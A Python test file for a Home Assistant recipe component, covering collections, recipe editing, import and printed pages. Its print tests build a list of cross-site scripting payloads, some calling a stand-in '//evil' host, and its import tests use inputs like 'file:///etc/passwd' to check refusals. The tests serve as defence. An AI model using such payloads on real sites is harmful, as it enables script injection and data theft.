"""Collections, the editor, the import and the print pages, over the WebSocket and HTTP of the panel."""

from collections.abc import Awaitable, Callable
from html.parser import HTMLParser
from io import BytesIO
import json
from typing import Any
import zipfile

from aiohttp import FormData
from homeassistant.auth.models import User
from homeassistant.core import HomeAssistant
from homeassistant.setup import async_setup_component
import pytest
from pytest_homeassistant_custom_component.common import MockConfigEntry
from pytest_homeassistant_custom_component.typing import ClientSessionGenerator, WebSocketGenerator

from custom_components.hearthtech.http.print_html import PrintedRecipe, book_page, recipe_page
from custom_components.hearthtech.kitchen.kitchen import Kitchen
from custom_components.hearthtech.kitchen.recipes.model import Ingredient, Recipe, Step, Yield
from custom_components.hearthtech.kitchen.recipes.notes import Note, NotePart

from .test_recipe_pages import SOUP, Asking, photo

TEXT = "Plum Cake\n\nIngredients:\n500 g plums\n200 g flour\n3 eggs\n\nMethod:\nMix.\nBake for 45 minutes."


@pytest.fixture
async def page(
    hass: HomeAssistant, kitchen_entry: MockConfigEntry, hass_ws_client: WebSocketGenerator
) -> Asking:
    # Its view must be there before the server of the test answers.
    assert await async_setup_component(hass, "file_upload", {})
    return Asking(await hass_ws_client(hass))


@pytest.fixture
async def child_page(
    hass: HomeAssistant, kitchen_entry: MockConfigEntry, hass_ws_client: WebSocketGenerator
) -> Asking:
    child: User = await hass.auth.async_create_user("Child", group_ids=["system-users"])
    refresh = await hass.auth.async_create_refresh_token(child, "https://example.org/app")
    return Asking(await hass_ws_client(hass, hass.auth.async_create_access_token(refresh)))


@pytest.fixture
def kitchen(kitchen_entry: MockConfigEntry) -> Kitchen:
    kitchen: Kitchen = kitchen_entry.runtime_data
    return kitchen


type Upload = Callable[[bytes, str], Awaitable[str]]


@pytest.fixture
async def upload(page: Asking, hass_client: ClientSessionGenerator) -> Upload:
    client = await hass_client()

    async def send(content: bytes, name: str) -> str:
        form = FormData()
        form.add_field("file", content, filename=name)
        answer = await client.post("/api/file_upload", data=form)
        return str((await answer.json())["file_id"])

    return send


# Collections


async def test_favorites_to_try_and_collections(page: Asking, kitchen: Kitchen) -> None:
    assert [one["id"] for one in await page.result("collections")] == ["favorites", "to_try"]
    for collection in ("favorites", "to_try"):
        await page.result("collection/put", collection=collection, recipe=SOUP, add=True)
    sunday = await page.result("collection/make", name="Sunday")
    assert (await page.result("collection/make", name=" sunday "))["id"] == sunday["id"]
    await page.result("collection/put", collection=sunday["id"], recipe=SOUP, add=True)
    told = {one["name"]: one["recipes"] for one in await page.result("collections")}
    assert told == {"favorites": [SOUP], "to_try": [SOUP], "Sunday": [SOUP]}
    shelf = await page.result("recipes", collection=sunday["id"])
    assert [item["id"] for item in shelf["items"]] == [SOUP]
    await page.result("collection/put", collection=sunday["id"], recipe=SOUP, add=False)
    assert (await page.result("recipes", collection=sunday["id"]))["total"] == 0
    await page.result("collection/remove", collection=sunday["id"])
    assert await page.refusal("recipes", collection=sunday["id"]) == "kitchen_record_not_found"
    assert await page.refusal("collection/put", collection="none", recipe=SOUP, add=True) == (
        "kitchen_record_not_found"
    )
    assert await page.refusal("collection/put", collection="to_try", recipe="none", add=True) == (
        "kitchen_recipe_not_found"
    )


async def test_a_saved_search_is_a_collection_that_voice_knows(page: Asking, kitchen: Kitchen) -> None:
    saved = await page.result("collection/make", name="Something warm", search="soup")
    assert saved["search"] == "soup"
    shelf = await page.result("recipes", collection=saved["id"])
    assert [item["id"] for item in shelf["items"]] == [SOUP]
    assert (await page.result("recipes", collection=saved["id"], text="pudding"))["total"] == 0
    # What a voice or an action searches goes the same way.
    assert [hit.id for hit in await kitchen.recipes.search("something warm")] == [SOUP]
    await page.result("collection/remove", collection=saved["id"])
    assert [one["id"] for one in await page.result("collections")] == ["favorites", "to_try"]


async def test_collections_are_in_an_export(page: Asking, kitchen: Kitchen, tmp_path: Any) -> None:
    await page.result("collection/make", name="Sunday")
    await kitchen.files.export_book(tmp_path / "book.zip")
    with zipfile.ZipFile(tmp_path / "book.zip") as archive:
        assert any(
            "Sunday" in archive.read(name).decode() for name in archive.namelist() if "household" in name
        )


# The editor


async def test_a_change_is_a_new_version_with_its_reason(page: Asking, kitchen: Kitchen) -> None:
    document = (await page.result("recipe", recipe=SOUP))["recipe"]
    document["ingredients"][1]["text"] = "2 kg chicken legs"
    document["steps"][0] |= {
        "goal": {"type": "temperature", "celsius": 90},
        "heat": {"power": 0.8},
        "needs_hands": False,
    }
    document["steps"][3]["goal"] = {"type": "human", "words": "until Ida nods"}
    kept = await page.result("recipe/save", document=document, reason="for the big pot")
    assert kept["recipe"]["version"] == 2
    (_, second) = await kitchen.recipes.versions(SOUP)
    assert second.reason == "for the big pot"
    soup = await kitchen.recipes.get(SOUP)
    assert soup.ingredients[1].text == "2 kg chicken legs"
    assert soup.steps[0].heat is not None
    assert soup.steps[0].heat.power == 0.8
    assert soup.steps[3].goal is not None


async def test_edits_of_different_fields_merge(page: Asking, kitchen: Kitchen) -> None:
    document = (await page.result("recipe", recipe=SOUP))["recipe"]
    await page.result("recipe/save", document={**document, "name": "Ida's Soup"})
    merged = (await page.result("recipe/save", document={**document, "story": "Another story."}))["recipe"]
    assert (merged["version"], merged["name"], merged["story"]) == (3, "Ida's Soup", "Another story.")


async def test_the_second_of_two_editors_sees_what_the_first_changed(page: Asking, kitchen: Kitchen) -> None:
    document = (await page.result("recipe", recipe=SOUP))["recipe"]
    first = {**document, "name": "Ida's Soup"}
    second = {**document, "name": "Omas Suppe", "story": "Another story."}
    await page.result("recipe/save", document=first)
    told = await page.result("recipe/save", document=second)
    assert (told["newest"], told["theirs"]["name"]) == (2, "Ida's Soup")
    assert told["difference"]["facts"]["name"] == ["Grandma's Chicken Soup", "Ida's Soup"]
    assert len(await kitchen.recipes.versions(SOUP)) == 2
    kept = await page.result("recipe/save", document={**second, "version": 2}, reason="mine")
    assert kept["recipe"]["version"] == 3


async def test_a_new_recipe_keeps_its_words_as_the_original(page: Asking, kitchen: Kitchen) -> None:
    document = {
        "id": "",
        "name": "Toast",
        "ingredients": [{"text": "2 slices bread"}],
        "steps": [{"text": "Toast for 3 minutes until brown."}],
    }
    made = (await page.result("recipe/save", document=document))["recipe"]
    assert made["steps"][0]["guesses"]
    original = await kitchen.recipes.original(made["id"])
    assert original is not None
    assert "Toast for 3 minutes" in original.text
    confirmed = {**made, "steps": [{**made["steps"][0], "guesses": []}]}
    again = (await page.result("recipe/save", document=confirmed))["recipe"]
    assert "guesses" not in again["steps"][0]
    assert again["steps"][0]["goal"] == made["steps"][0]["goal"]


async def test_what_is_written_is_shown_as_it_is_understood(page: Asking) -> None:
    document = {"id": "", "name": "Plum Cake", "ingredients": [{"text": "500 g plums"}, {"text": "qwxz"}]}
    told = await page.result("recipe/check", document=document)
    assert (told["understood"]["counted"], told["understood"]["lines_total"]) == (1, 2)
    assert told["understood"]["lines"][0]["grams"] == pytest.approx(500)
    assert "plums" in told["cooklang"]
    same = await page.result("recipe/check", document={"id": "", "name": "grandma's chicken soup"})
    assert same["duplicates"] == {SOUP: "Grandma's Chicken Soup"}


@pytest.mark.parametrize(
    "document",
    [
        {},
        {"id": SOUP},
        {"id": SOUP, "version": 1, "name": ""},
        {"id": SOUP, "version": 1, "name": "x", "steps": "boil"},
        {"id": SOUP, "version": 1, "name": "x", "steps": [{"text": "x", "goal": {"type": "magic"}}]},
        {"id": SOUP, "version": 1, "name": "x", "ingredients": [{"words": 1}]},
        {"id": SOUP, "version": 1, "name": "x", "ingredients": [{"text": 7}]},
        {"id": SOUP, "version": 1, "name": 7, "ingredients": [{"text": "x"}]},
        {"id": SOUP, "version": 1, "name": "x", "steps": [{"text": "x", "heat": {}}]},
        {"id": SOUP, "version": 1, "name": "x", "steps": [{"text": "x", "ingredients": ["a"]}]},
        {"id": SOUP, "version": 99, "name": "x", "ingredients": [{"text": "x"}]},
    ],
    ids=[
        "nothing", "no-name", "empty-name", "steps", "goal", "line", "number", "name", "heat", "index", "version",
    ],
)  # fmt: skip
async def test_a_malformed_recipe_is_refused_and_stores_nothing(
    page: Asking, kitchen: Kitchen, document: dict[str, Any]
) -> None:
    told = await page.answer("recipe/save", document=document)
    assert not told["success"]
    assert told["error"]["code"] != "unknown_error"
    assert len(await kitchen.recipes.versions(SOUP)) == 1


async def test_an_edit_by_somebody_who_may_not_heat_ends_the_allowance(
    child_page: Asking, kitchen: Kitchen, monkeypatch: pytest.MonkeyPatch
) -> None:
    ended: list[str] = []

    async def end(recipe_id: str, actor: str) -> None:
        ended.append(recipe_id)

    monkeypatch.setattr(kitchen.sessions, "end_allowances", end)
    document = (await child_page.result("recipe", recipe=SOUP))["recipe"]
    await child_page.result("recipe/save", document={**document, "story": "Mine."})
    assert ended == [SOUP]


# The import


async def test_words_are_looked_at_corrected_and_kept(page: Asking, kitchen: Kitchen) -> None:
    read = await page.result("import/read", text=TEXT)
    (row,) = read["recipes"]
    assert (row["name"], row["understood"]["counted"]) == ("Plum Cake", 3)
    assert await kitchen.recipes.count() == 3
    row["recipe"]["ingredients"][2]["text"] = "4 eggs"
    kept = await page.result("import/keep", draft=read["draft"], document=row["recipe"])
    (made,) = kept["recipes"]
    recipe = await kitchen.recipes.get(made["id"])
    assert recipe.ingredients[2].text == "4 eggs"
    original = await kitchen.recipes.original(made["id"])
    assert original is not None
    assert original.text == TEXT
    assert await page.refusal("import/keep", draft=read["draft"]) == "import_forgotten"
    similar = await page.result("import/read", text=TEXT)
    assert made["id"] in similar["recipes"][0]["duplicates"]


async def test_what_one_user_read_another_cant_keep(page: Asking, child_page: Asking) -> None:
    read = await page.result("import/read", text=TEXT)
    assert await child_page.refusal("import/keep", draft=read["draft"]) == "import_forgotten"
    assert len((await page.result("import/keep", draft=read["draft"]))["recipes"]) == 1


async def test_many_recipes_are_kept_without_some_and_undone_at_once(page: Asking, kitchen: Kitchen) -> None:
    many = [
        {
            "@context": "https://schema.org",
            "@type": "Recipe",
            "name": f"Dish {number}",
            "recipeIngredient": [f"{number + 1} eggs"],
        }
        for number in range(25)
    ]
    read = await page.result("import/read", text=json.dumps(many))
    assert read["total"] == 25
    assert "recipe" not in read["recipes"][0]
    kept = await page.result("import/keep", draft=read["draft"], without=[0, 24])
    assert len(kept["recipes"]) == 23
    assert await kitchen.recipes.count() == 26
    await kitchen.recipes.undo()
    assert await kitchen.recipes.count() == 3


async def test_a_photo_is_kept_as_the_original(page: Asking, kitchen: Kitchen, upload: Upload) -> None:
    read = await page.result("import/read", file=await upload(photo(), "card.jpg"))
    assert read["scan"]["words"] == ""
    assert read["scan"]["url"].startswith("/api/hearthtech/picture/")
    typed = await page.result("import/read", text=TEXT, scan=read["scan"]["hash"])
    (made,) = (await page.result("import/keep", draft=typed["draft"]))["recipes"]
    original = await kitchen.recipes.original(made["id"])
    assert original is not None
    assert original.media == read["scan"]["hash"]


async def test_the_pictures_of_an_archive_are_chosen(
    page: Asking, kitchen: Kitchen, upload: Upload, tmp_path: Any
) -> None:
    file = BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("Toast.cook", ">> title: Toast\nToast the @bread{2%slices}.\n")
        archive.writestr("Toast.jpg", photo(400, 300))
    name = await upload(file.getvalue(), "recipes.zip")
    read = await page.result("import/read", file=name)
    (row,) = read["recipes"]
    assert len(row["pictures"]) == 1
    (made,) = (await page.result("import/keep", draft=read["draft"], document=row["recipe"], pictures=[]))[
        "recipes"
    ]
    assert await kitchen.notes.pictures(made["id"]) == ()


@pytest.mark.parametrize(
    ("fields", "reason"),
    [
        ({"text": "   "}, "kitchen_not_a_recipe"),
        ({"url": "http://192.168.1.1/recipe"}, "page_local"),
        ({"url": "file:///etc/passwd"}, "page_not_a_web_address"),
        ({"file": "no-such-file"}, "upload_not_found"),
        ({}, "upload_not_found"),
        ({"text": "x", "url": "http://example.org"}, "invalid_format"),
    ],
    ids=["nothing", "router", "file-address", "file", "empty", "both"],
)
async def test_what_cant_be_read_says_why(page: Asking, fields: dict[str, str], reason: str) -> None:
    assert await page.refusal("import/read", **fields) == reason


# Paper


class Elements(HTMLParser):
    """The elements of a page, with their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


OPENINGS = (
    "<script>{0}</script>", "<img src=x onerror={0}>", "<svg onload={0}>", "<iframe src=javascript:{0}>",
    "<body onload={0}>", "<a href=javascript:{0}>x</a>", "</title><script>{0}</script>", "</style><script>{0}</script>",
    "\"><script>{0}</script>", "'><img src=x onerror={0}>", "--><script>{0}</script>", "]]><script>{0}</script>",
    "<math><mtext></script><script>{0}</script>", "<details open ontoggle={0}>", "<object data=javascript:{0}>",
    "<link rel=stylesheet href=//evil/{0}>", "<meta http-equiv=refresh content=0;url=//evil/{0}>",
    "<base href=//evil/{0}>", "<form action=//evil/{0}><button>", "${{{0}}}",
)  # fmt: skip
PAYLOADS = tuple(
    opening.format(act)
    for opening in OPENINGS
    for act in (
        "alert(1)", "window.planted=1", "fetch('//evil')", "document.write('x')", "import('//evil')",
        "top.location='//evil'", "eval(name)", "&#97;lert(1)", "al\u0000ert(1)", "\u202ealert(1)",
    )
)  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_what_people_write_stays_text_on_paper(payload: str) -> None:
    recipe = Recipe(
        id=payload,
        name=payload,
        description=payload,
        story=payload,
        author=payload,
        yields=Yield(amount=2, unit=payload),
        ingredients=(Ingredient(text=payload, section=payload),),
        steps=(Step(text=payload, section=payload, name=payload),),
        notes=(payload,),
        source_url=payload,
        keywords=(payload,),
    )
    notes = [
        Note(recipe_id="x", version=1, part=part, line=line, words=payload, author=payload)
        for part, line in ((NotePart.RECIPE, None), (NotePart.INGREDIENT, 0), (NotePart.STEP, 0))
    ]
    printed = PrintedRecipe(recipe=recipe, notes=notes, cover=payload)
    for text in (recipe_page(printed, "en", "N"), "".join(book_page(payload, [printed], "de", "N"))):
        parser = Elements()
        parser.feed(text)
        names = [name for name, _ in parser.found]
        assert names.count("script") == names.count("style") == names.count("button") == 1
        assert {"iframe", "svg", "object", "link", "base", "form", "math", "details"}.isdisjoint(names)
        for name, attributes in parser.found:
            assert not any(key.startswith("on") for key in attributes), name
            assert name != "a" or (attributes["href"] or "").startswith("#r")


async def test_a_recipe_is_printed_by_a_signed_path_with_a_strict_policy(
    page: Asking, kitchen: Kitchen, hass_client_no_auth: ClientSessionGenerator
) -> None:
    await kitchen.notes.add_picture(SOUP, photo(400, 300))
    path = (await page.result("recipe/print", recipe=SOUP, factor=0.5, units="us", language="de-AT"))["path"]
    client = await hass_client_no_auth()
    got = await client.get(path)
    text = await got.text()
    assert got.status == 200
    policy = got.headers["Content-Security-Policy"]
    nonce = policy.partition("'nonce-")[2].partition("'")[0]
    assert (
        f"default-src 'none'; style-src 'nonce-{nonce}'; script-src 'nonce-{nonce}'; img-src 'self'" in policy
    )
    assert "unsafe" not in policy
    assert f'<script nonce="{nonce}">' in text
    assert "Zutaten" in text
    assert "3 Portionen" in text
    assert "Grandma Ida put the pot on" in text
    picture = text.partition('src="')[2].partition('"')[0]
    assert (await client.get(picture.replace("&amp;", "&"))).status == 200
    assert (await client.get(path.partition("?")[0])).status == 401
    assert (await client.get(path.replace("factor=0.5", "factor=7"))).status == 401
    assert (await client.get(path.replace(SOUP, "papas-semolina-pudding"))).status == 401


async def test_the_book_and_a_collection_are_printed(
    page: Asking, kitchen: Kitchen, hass_client_no_auth: ClientSessionGenerator
) -> None:
    client = await hass_client_no_auth()
    whole = await (await client.get((await page.result("book/print"))["path"])).text()
    assert whole.count('<article class="recipe"') == 3
    assert "Our recipes" in whole
    await page.result("collection/put", collection="favorites", recipe=SOUP, add=True)
    some = await page.result("book/print", collection="favorites", language="it")
    text = await (await client.get(some["path"])).text()
    assert text.count('<article class="recipe"') == 1
    assert "Ingredienti" in text
    gone = await page.result("book/print", collection="no-such")
    assert (await client.get(gone["path"])).status == 404


async def test_the_archive_is_for_administrators(
    page: Asking, child_page: Asking, hass_client_no_auth: ClientSessionGenerator
) -> None:
    assert await child_page.refusal("book/export") == "unauthorized"
    client = await hass_client_no_auth()
    got = await client.get((await page.result("book/export"))["path"])
    with zipfile.ZipFile(BytesIO(await got.read())) as archive:
        assert sum(name.endswith(".cook") for name in archive.namelist()) == 3
    assert (await client.get("/api/hearthtech/book.zip")).status == 401
